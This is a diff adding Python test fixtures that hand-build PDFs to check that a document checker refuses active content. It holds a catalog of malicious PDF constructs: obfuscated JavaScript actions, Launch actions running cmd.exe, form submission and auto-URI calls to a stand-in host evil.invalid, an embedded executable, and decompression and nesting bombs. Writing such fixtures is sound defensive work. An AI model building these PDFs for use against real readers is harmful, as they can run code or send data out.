@@ -167,3 +167,188 @@ PDF_PRODUCERS = {
     "pdf-radicals": radicals_pdf_of,
     "pdf-chromium": chromium_pdf_of,
 }
+
+
+# --- PDFs written by hand, byte for byte, for the active-content checks ---------------------------
+def handmade_pdf(
+    objects: dict[int, bytes], *, root: int = 1, header: bytes = b"%PDF-1.7\n", repair: bool = False
+) -> bytes:
+    """A PDF whose objects are the given bodies (``<< … >>`` or a stream), with a correct
+    cross-reference table and trailer, so that a reader opens it as it is written; with
+    ``repair`` the table's offset is wrong, and readers rebuild it by scanning the objects
+    (which is how an object inside an object stream is found without a cross-reference stream)."""
+    out = bytearray(header)
+    offsets = {}
+    for number in sorted(objects):
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
+    size = max(objects) + 1
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
+    for number in range(1, size):
+        if number in offsets:
+            out += b"%010d 00000 n \n" % offsets[number]
+        else:
+            out += b"0000000000 65535 f \n"
+    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
+        size,
+        root,
+        3 if repair else xref,
+    )
+    return bytes(out)
+
+
+def page_objects(catalog_extra: bytes = b"", page_extra: bytes = b"", *, text: bytes = b"Hello") -> dict[int, bytes]:
+    """Catalog 1, pages 2, one page 3 with a content stream 4 and a font 5; extras spliced in."""
+    content = b"BT /F1 12 Tf 72 712 Td (" + text + b") Tj ET"
+    return {
+        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
+        4: b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
+        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+    }
+
+
+def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
+    import zlib
+
+    packed = zlib.compress(data, 9)
+    return b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(packed), extra) + packed + b"\nendstream"
+
+
+def _with_objects(extra: dict[int, bytes], catalog: bytes = b"", page: bytes = b"", *, repair: bool = False) -> bytes:
+    return handmade_pdf(page_objects(catalog, page) | extra, repair=repair)
+
+
+# Each attack that must be refused, with the reason code the checker gives.
+PDF_ATTACKS: dict[str, tuple[bytes, str]] = {
+    # The catalog's open action between comment lines that a byte scanner took for a stream.
+    "open-action-between-stream-comments": (
+        _with_objects({}, catalog=b"\n% stream\n/OpenAction << /S /JavaScript /JS (app.alert(1)) >>\n% endstream\n"),
+        "pdf.javascript",
+    ),
+    "escaped-name": (
+        _with_objects({}, catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
+        "pdf.javascript",
+    ),
+    "escaped-name-without-js-key": (
+        _with_objects({}, catalog=b"/OpenAction << /S /J#61va#53cript >>"),
+        "pdf.javascript",
+    ),
+    "annotation-javascript": (
+        _with_objects(
+            {6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A 7 0 R >>", 7: b"<< /S /JavaScript /JS (x) >>"},
+            page=b"/Annots [6 0 R]",
+        ),
+        "pdf.javascript",
+    ),
+    "names-tree-javascript": (
+        _with_objects(
+            {6: b"<< /Names [(start) 7 0 R] >>", 7: b"<< /S /JavaScript /JS (app.alert(2)) >>"},
+            catalog=b"/Names << /JavaScript 6 0 R >>",
+        ),
+        "pdf.javascript",
+    ),
+    "next-chain-javascript": (
+        _with_objects(
+            {
+                6: b"<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>",
+                7: b"<< /S /GoTo /D [3 0 R /Fit] /Next [8 0 R] >>",
+                8: b"<< /S /JavaScript /JS (app.alert(3)) >>",
+            },
+            catalog=b"/OpenAction 6 0 R",
+        ),
+        "pdf.javascript",
+    ),
+    "page-additional-action": (_with_objects({}, page=b"/AA << /O << /S /Launch /F (cmd.exe) >> >>"), "pdf.launch"),
+    "launch-in-link": (
+        _with_objects({}, page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (x.exe) >> >>]"),
+        "pdf.launch",
+    ),
+    "open-action-uri": (
+        _with_objects({}, catalog=b"/OpenAction << /S /URI /URI (http://evil.invalid/) >>"),
+        "pdf.auto_uri",
+    ),
+    "remote-goto": (
+        _with_objects(
+            {},
+            page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] "
+            b"/A << /S /GoToR /F (\\\\\\\\host\\\\x.pdf) /D [0 /Fit] >> >>]",
+        ),
+        "pdf.remote_goto",
+    ),
+    "submit-form": (
+        _with_objects(
+            {6: b"<< /FT /Btn /T (go) /A << /S /SubmitForm /F (http://evil.invalid/) >> >>"},
+            catalog=b"/AcroForm << /Fields [6 0 R] >>",
+        ),
+        "pdf.submit_form",
+    ),
+    "xfa-form": (
+        _with_objects(
+            {6: b"<< /Length 7 >>\nstream\n<xdp/>\n\nendstream"}, catalog=b"/AcroForm << /Fields [] /XFA 6 0 R >>"
+        ),
+        "pdf.xfa",
+    ),
+    "embedded-file": (
+        _with_objects(
+            {
+                6: b"<< /Names [(a.exe) 7 0 R] >>",
+                7: b"<< /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>",
+                8: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+            },
+            catalog=b"/Names << /EmbeddedFiles 6 0 R >>",
+        ),
+        "pdf.embedded_file",
+    ),
+    "unreachable-launch": (_with_objects({6: b"<< /Type /Action /S /Launch /F (cmd.exe) >>"}), "pdf.launch"),
+    "javascript-in-object-stream": (
+        _with_objects(
+            {6: flate_stream(b"7 0 << /S /JavaScript /JS (app.alert(4)) >>", b"/Type /ObjStm /N 1 /First 4 ")},
+            catalog=b"/OpenAction 7 0 R",
+            repair=True,
+        ),
+        "pdf.javascript",
+    ),
+    "flate-bomb": (_with_objects({6: flate_stream(b"0" * (80 * 1024 * 1024))}), "pdf.too_complex"),
+    "deep-nesting": (_with_objects({6: b"[" * 3000 + b"]" * 3000}), "pdf.too_complex"),
+    "endless-next-chain": (
+        _with_objects(
+            {n: b"<< /S /GoTo /D [3 0 R /Fit] /Next %d 0 R >>" % (n + 1) for n in range(6, 2606)}
+            | {2606: b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>"},
+            catalog=b"/OpenAction 6 0 R",
+        ),
+        "pdf.too_complex",
+    ),
+    "malformed": (
+        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj\n",
+        "pdf.corrupt",
+    ),
+}
+
+
+@functools.cache
+def truetype_pdf_with_js_bytes_in_a_stream() -> bytes:
+    """A clean reportlab PDF whose compressed font stream holds the bytes ``/JS`` (stored
+    uncompressed in the deflate data, as any compressor may happen to write them)."""
+    import zlib
+
+    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(truetype_pdf_of(official_sample()))))
+    for page in writer.pages[:1]:
+        fonts = page["/Resources"]["/Font"]
+        for name in fonts:
+            descendants = fonts[name].get_object().get("/DescendantFonts")
+            font = descendants[0].get_object() if descendants else fonts[name].get_object()
+            descriptor = font.get("/FontDescriptor")
+            if descriptor is None or "/FontFile2" not in descriptor.get_object():
+                continue
+            stream = descriptor.get_object()["/FontFile2"].get_object()
+            # Bytes after the last table are never read by a font parser.
+            stream._data = zlib.compress(stream.get_data() + b"\x00/JS (app.alert) /JavaScript\x00", 0)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    data = buffer.getvalue()
+    assert re.search(rb"/JS(?![A-Za-z0-9#])", data), "the fixture lost its /JS bytes"
+    return data
